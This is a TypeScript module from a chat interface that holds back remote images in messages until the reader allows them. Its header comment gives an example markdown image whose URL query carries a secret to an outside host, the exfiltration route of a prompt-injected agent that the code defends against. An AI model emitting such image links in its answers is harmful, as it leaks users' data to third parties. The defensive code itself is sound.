/**
 * Remote images in messages load only when the reader asks (doc/security.md "Remote images"):
 * `![](https://host/x.png?d=secret)` in an answer would otherwise tell `host` whatever the URL
 * carries the moment it shows — the classic exfiltration by a prompt-injected agent.
 *
 * The sanitizer moves an image's `src` to `data-remote-src` (an `<img>` without `src` fetches
 * nothing), and `placeholdRemoteImages` then replaces each such image with a placeholder: the
 * host, and the buttons `Load image from <host>` and `Always load images from <host>`. The page
 * (`components/conversation/remote-images.ts`) swaps a placeholder for the real image once the
 * reader allows it. Deterministic (the HTML depends on the text and the interface language only),
 * so a streamed render still ends equal to a one-shot render.
 *
 * Message HTML cannot fake a placeholder: `span`, `button` and `data-*` attributes are dropped
 * from it before this step runs.
 */
import { m } from '../i18n';

/** The attribute the sanitizer keeps an image's URL in (instead of `src`). */
export const REMOTE_SRC = 'data-remote-src';
/** The class of a placeholder `span`; it carries `data-remote-src` and `data-alt`. */
export const PLACEHOLDER_CLASS = 'remote-image';
/** `data-remote-action` of the placeholder's buttons. */
export type RemoteImageAction = 'once' | 'always';

/** The host (with port) a remote image URL points at; '' when it does not parse. */
export function imageHost(url: string): string {
	try {
		return new URL(url).host;
	} catch {
		return '';
	}
}

/** Replace every `<img data-remote-src>` under `root` (sanitized HTML, parsed) by its placeholder. */
export function placeholdRemoteImages(root: ParentNode): void {
	for (const img of root.querySelectorAll(`img[${REMOTE_SRC}]`)) {
		img.replaceWith(placeholder(img.getAttribute(REMOTE_SRC) ?? '', img.getAttribute('alt') ?? ''));
	}
}

function placeholder(src: string, alt: string): HTMLElement {
	const host = imageHost(src);
	const span = document.createElement('span');
	span.className = PLACEHOLDER_CLASS;
	span.setAttribute(REMOTE_SRC, src);
	span.setAttribute('data-alt', alt);
	if (alt) {
		const label = document.createElement('span');
		label.className = 'remote-image-alt';
		label.dir = 'auto';
		label.textContent = alt;
		span.append(label);
	}
	span.append(
		button('once', m.remote_load_from({ host }), src),
		button('always', m.remote_always_from({ host }))
	);
	return span;
}

function button(action: RemoteImageAction, text: string, title?: string): HTMLButtonElement {
	const b = document.createElement('button');
	b.type = 'button';
	b.setAttribute('data-remote-action', action);
	// The full URL on hover: what loading it would send.
	if (title) b.title = title;
	b.textContent = text;
	return b;
}
